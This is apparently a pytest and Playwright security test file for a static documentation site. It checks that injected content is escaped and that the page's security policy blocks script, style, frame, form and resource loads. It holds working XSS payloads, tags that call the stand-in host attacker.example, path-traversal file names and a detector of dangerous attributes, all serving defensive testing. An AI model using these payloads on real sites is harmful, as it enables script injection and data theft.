"""The second wall: every attack put on the built site behind the checker's back, and looked at in a real browser.

Texts are escaped wherever they go, so nothing runs; and were something to get through, the page's policy stops it.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest
from attack_places import CASE, DISK, GUIDE, MODEL, TENSION, Attack, attacks
from conftest import serve
from playwright.sync_api import Browser, Page
from test_golden import site_of
from tiny import buildable_copy, check_with, tiny_text

from scripts.link.corpus import Corpus, Entry, link
from scripts.parse.bibtex import parse_bibliography
from scripts.publish.finish import LOST, finish, finish_tree, frame_scripts
from scripts.publish.generator import Run, generate
from scripts.publish.search import index
from scripts.publish.stage import stage, write_changed
from scripts.read.files import read_pictures
from scripts.records import LANGUAGES
from scripts.render.attachments import attachments
from scripts.render.data import render_data
from scripts.render.pages import render_site
from scripts.render.searching import search_records
from scripts.render.short_pages import short_pages

pytestmark = pytest.mark.slow
# Where a work's key or a file's name is the attack, there is no page to look at: nothing is written (tested below).
WITHOUT_PAGE = {*DISK, "name", "bib-key", "bib-raw", "file", "field", "whole-header", "question-page"}
ON_PAGES = ("text", "block", "heading", "table", "link", "image", "image-text")
ON_GUIDES = {"title": "title", "summary": "summary", "contributor": "contributors", "phrase": "phrases"}
HACKED = "window.hacked !== undefined"
# What no page may hold, whoever wrote it.
DANGEROUS = """() => {
  const found = [];
  const here = location.origin + "/";
  for (const one of document.querySelectorAll("*")) {
    for (const { name, value } of one.attributes) {
      if (/^on/i.test(name)) found.push(`${name}=${value}`);
      if (/^(href|src|action|formaction|data|srcdoc|xlink:href|poster|background)$/i.test(name)
          && /^[\\s\\x00-\\x20]*(javascript|vbscript|data|file|view-source):/i.test(value)) found.push(`${name}=${value}`);
    }
  }
  for (const one of document.querySelectorAll("iframe, object, embed, base, frame, applet, svg script, math, style, [style]"))
    found.push(one.outerHTML.slice(0, 120));
  for (const one of document.querySelectorAll("form"))
    if (!one.action.startsWith(here)) found.push(one.outerHTML.slice(0, 120));
  for (const one of document.querySelectorAll("script[src], link[rel=stylesheet]"))
    if (!(one.src || one.href).startsWith(here)) found.push(one.outerHTML.slice(0, 120));
  for (const one of document.querySelectorAll("meta[http-equiv]"))
    if (one.httpEquiv.toLowerCase() !== "content-security-policy") found.push(one.outerHTML.slice(0, 120));
  for (const one of document.querySelectorAll("a[href]"))
    if (one.href.includes("@")) found.push(one.outerHTML.slice(0, 120));
  return found;
}"""


@dataclass(frozen=True)
class Hostile:
    """The built site; `pages` tells on which page an attack stands."""

    folder: Path
    corpus: Corpus
    pages: dict[str, str]


def _laid(all_attacks: list[Attack]) -> tuple[dict[str, str | None], dict[str, tuple[str, Attack]]]:
    """The files of the hostile repository, and the page of each attack."""
    changes: dict[str, str | None] = {}
    where: dict[str, tuple[str, Attack]] = {}
    added = {"docs/glossary.yml": "", "docs/organisations.yml": "", "bibliography/references.bib": ""}
    for number, attack in enumerate(all_attacks):
        name = f"angreb-{number:03}"
        if attack.place in ON_PAGES and not attack.only:
            text = attack.changes[GUIDE] or ""
            changes[f"docs/guide/{name}.md"] = text
            where[name] = (f"guide/{name}/", attack)
        elif attack.place in ON_GUIDES and not attack.only:
            changes[f"docs/guide/{name}.md"] = tiny_text(GUIDE)
            where[name] = (f"guide/{name}/", attack)
        elif attack.place in ("funding", "reason") or attack.only == "case":
            changes[f"cases/{name}.md"] = (attack.changes[CASE] or "") if attack.place == "block" else tiny_text(CASE)
            where[name] = (f"cases/{name}/", attack)
        elif attack.place == "story":
            changes[f"cases/{name}.md"] = attack.changes[CASE]
            where[name] = (f"cases/{name}/", attack)
        elif attack.place in ("step", "lead"):
            changes[f"docs/models/{name}.md"] = attack.changes[MODEL] if attack.place == "step" else tiny_text(MODEL)
            where[name] = (f"models/{name}/", attack)
        elif attack.place in ("question", "clash"):
            changes[f"docs/tensions/{name}.md"] = tiny_text(TENSION)
            where[name] = (f"tensions/{name}/", attack)
        elif attack.place.startswith("bib-") and attack.place not in WITHOUT_PAGE:
            entry = (attack.changes["bibliography/references.bib"] or "").rsplit("@misc", 1)[1]
            added["bibliography/references.bib"] += "\n@misc" + entry.replace(
                "zzangreb2025proeve", f"zzangreb{number:03}nd"
            )
            changes[f"docs/guide/{name}.md"] = tiny_text(GUIDE) + f"\nSe [@zzangreb{number:03}nd].\n"
            where[name] = (f"guide/{name}/", attack)
    changes["bibliography/references.bib"] = (
        tiny_text("bibliography/references.bib") + added["bibliography/references.bib"]
    )
    return changes, where


def _hostile_record(entry: Entry, attack: Attack) -> Entry:
    """The entry with the attack in its header, which no check has seen."""
    text: Any = attack.text
    danish = entry.editions["da"]
    record: Any = danish.record
    if attack.place in ("contributor", "phrase"):
        record = record.model_copy(update={ON_GUIDES[attack.place]: (text,)})
    elif attack.place in ("title", "summary", "funding", "question"):
        record = record.model_copy(update={attack.place: text})
    elif attack.place == "clash":
        record = record.model_copy(update={"question": text, "title": text, "summary": text})
    elif attack.place == "reason":
        judged = record.assessment.metode.model_copy(update={"reason": text})
        record = record.model_copy(update={"assessment": record.assessment.model_copy(update={"metode": judged})})
    return replace(entry, editions={**entry.editions, "da": replace(danish, record=record)})


def _hostile_corpus(all_attacks: list[Attack]) -> tuple[Corpus, dict[str, str]]:
    changes, where = _laid(all_attacks)
    corpus = link(check_with(changes))
    entries = {
        key: _hostile_record(entry, where[entry.id][1]) if entry.id in where else entry
        for key, entry in corpus.entries.items()
    }
    organisations, terms, values = dict(corpus.organisations), dict(corpus.terms), dict(corpus.vocabulary["fields"])
    for number, attack in enumerate(all_attacks):
        good = corpus.organisations["haveforeningen"]
        if attack.place in ("organisation", "organisation-address"):
            name = {"name": good.name.model_copy(update={"da": attack.text, "en": attack.text})}
            changed = name if attack.place == "organisation" else {"url": attack.text}
            organisations[f"o{number}"] = good.model_copy(update={"id": f"o{number}", **changed})
        elif attack.place in ("term", "term-name"):
            term = corpus.terms["vennekreds"]
            part = {"term": "definition", "term-name": "name"}[attack.place]
            words = getattr(term, part).model_copy(update={"da": attack.text, "en": attack.text})
            terms[f"t{number}"] = term.model_copy(update={"id": f"t{number}", part: words})
        elif attack.place == "label":
            value = values["aeldre"]
            values["aeldre"] = value.model_copy(update={"label": value.label.model_copy(update={"da": attack.text})})
    vocabulary = {**corpus.vocabulary, "fields": values}
    hostile = replace(corpus, entries=entries, organisations=organisations, terms=terms, vocabulary=vocabulary)
    return hostile, {attack.name: page for page, attack in where.values()}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    """The site of a repository in which every attack has got past the checker."""
    place = buildable_copy(tmp_path_factory.mktemp("hostile") / "repository")
    all_attacks = [attack for attack in attacks() if attack.place not in WITHOUT_PAGE and len(attack.text) < 10_000]
    corpus, pages = _hostile_corpus(all_attacks)
    folder, records, pictures = place / "site", [], read_pictures(place)
    for language in LANGUAGES:
        site = site_of(corpus, language, place / "cache")
        rendered = render_site(site)
        stage(place / "build" / "docs" / language, rendered | (pictures if language == "da" else {}))
        write_changed(folder, attachments(rendered, site))
        records += list(search_records(site))
    write_changed(folder, render_data(corpus, site.settings) | short_pages(corpus))
    names = {"da": "mkdocs.yml", "en": "mkdocs.en.yml"}
    generate([Run(place / names[language], place / "work" / language) for language in LANGUAGES])
    finish_tree(place / "work" / "da", folder)
    finish_tree(place / "work" / "en", folder / "en", "en/")
    index(folder, records)
    return Hostile(folder, corpus, pages)


@pytest.fixture(scope="module")
def address(hostile: Hostile) -> Iterator[str]:
    running = serve(hostile.folder)
    yield f"http://127.0.0.1:{running.server_port}/"
    running.shutdown()
    running.server_close()


def test_every_attack_that_can_stand_on_a_page_stands_on_one(hostile: Hostile) -> None:
    assert len(hostile.pages) >= 120
    for page in hostile.pages.values():
        assert (hostile.folder / page / "index.html").is_file(), page


def test_nothing_runs_on_any_page(hostile: Hostile, address: str, page: Page) -> None:
    """`page` itself fails the test on a request to another host, a cookie, or a word in the console."""
    everywhere = [path.parent.relative_to(hostile.folder).as_posix() for path in hostile.folder.rglob("index.html")]
    found = {}
    for place in sorted(everywhere):
        if place.startswith(("pagefind", "m/", "s/", "p/", "en/m/", "en/s/", "en/p/")):
            continue
        page.goto(f"{address}{place}/" if place != "." else address)
        if dangerous := page.evaluate(DANGEROUS):
            found[place] = dangerous
        if page.evaluate(HACKED):
            found[place] = ["something ran"]
    assert found == {}


def test_words_are_shown_as_they_stand(hostile: Hostile, address: str, page: Page) -> None:
    for attack in attacks():
        if attack.shown != "true" or attack.name not in hostile.pages:
            continue
        page.goto(f"{address}{hostile.pages[attack.name]}")
        if attack.place == "title":
            assert page.locator("h1").inner_text() == " ".join(attack.text.split()), attack.name
        elif attack.place in ("step", "summary"):
            assert " ".join(attack.text.split()) in " ".join((page.text_content("body") or "").split()), attack.name
    page.goto(f"{address}{hostile.pages['HTML in entities']}")
    assert "<script>window.hacked=1</script>" in (page.text_content("#content") or "")


def test_searching_for_an_attack_runs_nothing(address: str, page: Page) -> None:
    for words in ("script", "hacked", "<script>window.hacked=1</script>", '"><img src=x onerror=window.hacked=1>'):
        page.goto(f"{address}search/")
        page.locator("#content input[type=search]").fill(words)
        page.locator("#content input[type=search]").press("Enter")
        page.wait_for_load_state("networkidle")
        assert not page.evaluate(HACKED) and page.evaluate(DANGEROUS) == [], words


@pytest.mark.parametrize("place", ["search/", "cases/", "literature/", "models/choose/"])
def test_an_attack_in_the_address_runs_nothing(place: str, address: str, page: Page) -> None:
    evil = "%3Cimg%20src%3Dx%20onerror%3Dwindow.hacked%3D1%3E"
    page.goto(f"{address}{place}?q={evil}&field={evil}&type={evil}&model={evil}&text={evil}&problem={evil}#{evil}")
    page.wait_for_load_state("networkidle")
    assert not page.evaluate(HACKED) and page.evaluate(DANGEROUS) == []


def test_data_for_search_engines_and_programs_is_whole(hostile: Hostile) -> None:
    block = re.compile(r'<script type="application/ld\+json">(.*?)</script>', re.S)
    seen = 0
    for path in hostile.folder.rglob("index.html"):
        for text in block.findall(path.read_text(encoding="utf-8")):
            json.loads(text)
            assert "<" not in text
            seen += 1
    assert seen > 10
    for path in (hostile.folder / "data").rglob("*.json"):
        json.loads(path.read_text(encoding="utf-8"))


def test_no_cell_of_a_spreadsheet_is_a_formula(hostile: Hostile) -> None:
    for language in LANGUAGES:
        text = (hostile.folder / "data" / f"cases-{language}.csv").read_text(encoding="utf-8-sig")
        rows = list(csv.reader(io.StringIO(text), delimiter=";"))
        assert len({len(row) for row in rows}) == 1
        cells = [cell for row in rows for cell in row]
        assert any("HYPERLINK" in cell for cell in cells)
        assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []


def test_a_downloaded_bibliography_holds_as_many_works_as_it_should(hostile: Hostile) -> None:
    works = len(hostile.corpus.references)
    parsed = parse_bibliography((hostile.folder / "data" / "literature.bib").read_text(encoding="utf-8"))
    assert parsed.faults == () and len(parsed.entries) == works
    ris = (hostile.folder / "data" / "literature.ris").read_text(encoding="utf-8")
    assert len(re.findall(r"^TY  - ", ris, re.M)) == works == len(re.findall(r"^ER  - ", ris, re.M))


@pytest.mark.parametrize("name", ["../x.md", "guide/../../x.md", "/etc/x", "a\\..\\x", "a\0b"])
def test_no_name_leads_out_of_the_site(name: str, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="leads out"):
        write_changed(tmp_path / "site", {"good.md": "x", name: "x"})
    assert [path for path in tmp_path.rglob("*") if path.is_file()] == []


# The policy of each page, for the day that something gets through

THROUGH = {
    "script": "<script>window.hacked=1</script>",
    "script like the frame's": '<script>__md_scope=new URL("..",location),window.hacked=1</script>',
    "script like the palette": 'x<script>var palette=__md_get("__palette");window.hacked=1</script>',
    "script from elsewhere": '<script src="https://attacker.example/x.js"></script>',
    "script as data": '<script src="data:text/javascript,window.hacked=1"></script>',
    "module": '<script type="module">window.hacked=1</script>',
    "handler": "<img src=x onerror=window.hacked=1>",
    "drawing": "<svg onload=window.hacked=1></svg>",
    "focus": "<input autofocus onfocus=window.hacked=1>",
    "link": '<a id="evil" href="javascript:window.hacked=1">x</a>',
    "frame": '<iframe src="https://attacker.example/"></iframe>',
    "frame of its own": '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    "object": '<object data="https://attacker.example/x"></object>',
    "picture": '<img src="https://attacker.example/pixel.png">',
    "style": "<style>body{background:url(https://attacker.example/x)}</style>",
    "style on an element": '<p style="background:url(https://attacker.example/x)">x</p>',
    "style sheet": '<link rel="stylesheet" href="https://attacker.example/x.css">',
    "font": "<style>@font-face{font-family:x;src:url(https://attacker.example/x)}body{font-family:x}</style>",
    "form": '<form action="https://attacker.example/"><button id="evil">x</button></form>',
    "base": '<base href="https://attacker.example/"><img src="pixel.png">',
    "evaluation": '<b id="x" data-x="1"></b><script>eval("window.hacked=1")</script>',
    "prefetch": '<link rel="prefetch" href="https://attacker.example/x">',
    "sound": '<audio autoplay src="https://attacker.example/x.mp3"></audio>',
}


@pytest.mark.parametrize("name", THROUGH)
def test_the_policy_stops_what_gets_through(
    name: str, site: Path, browser: Browser, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    page_file = site / "about" / "licence" / "index.html"
    bare = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page_file.read_text(encoding="utf-8"))
    frame = frame_scripts((site / LOST).read_text(encoding="utf-8"))
    assert len(frame) == 2
    evil = finish(bare.replace("<h1", f"{THROUGH[name]}<h1", 1), frame)
    write_changed(tmp_path, {"index.html": evil})
    running = serve(tmp_path)
    request.addfinalizer(running.server_close)
    request.addfinalizer(running.shutdown)
    asked: list[str] = []
    context = browser.new_context()
    request.addfinalizer(context.close)
    page = context.new_page()
    page.on("response", lambda response: asked.append(response.url))
    page.goto(f"http://127.0.0.1:{running.server_port}/", wait_until="load")
    if "evil" in THROUGH[name]:
        page.locator("#evil").click(no_wait_after=True, force=True)
    page.wait_for_load_state("networkidle")
    assert not page.evaluate(HACKED)
    assert page.url.startswith("http://127.0.0.1:")
    assert [url for url in asked if "attacker" in url] == []
